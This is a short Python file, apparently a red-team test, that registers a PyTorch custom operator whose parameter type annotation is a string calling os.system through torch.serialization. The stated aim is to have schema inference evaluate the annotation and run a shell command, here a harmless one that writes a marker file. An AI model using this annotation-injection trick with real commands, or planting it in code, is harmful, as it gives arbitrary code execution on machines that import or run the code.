"""Has torch.library.custom_op evaluate a string annotation while it infers the schema: a shell command from torch's frame."""
import torch


def scale(x: "torch.serialization.os.system('echo planted > planted')") -> torch.Tensor:
    return x


def train(ctx):
    torch.library.custom_op("redteam::scale", scale, mutates_args=())
    return torch.nn.Linear(1, 1)
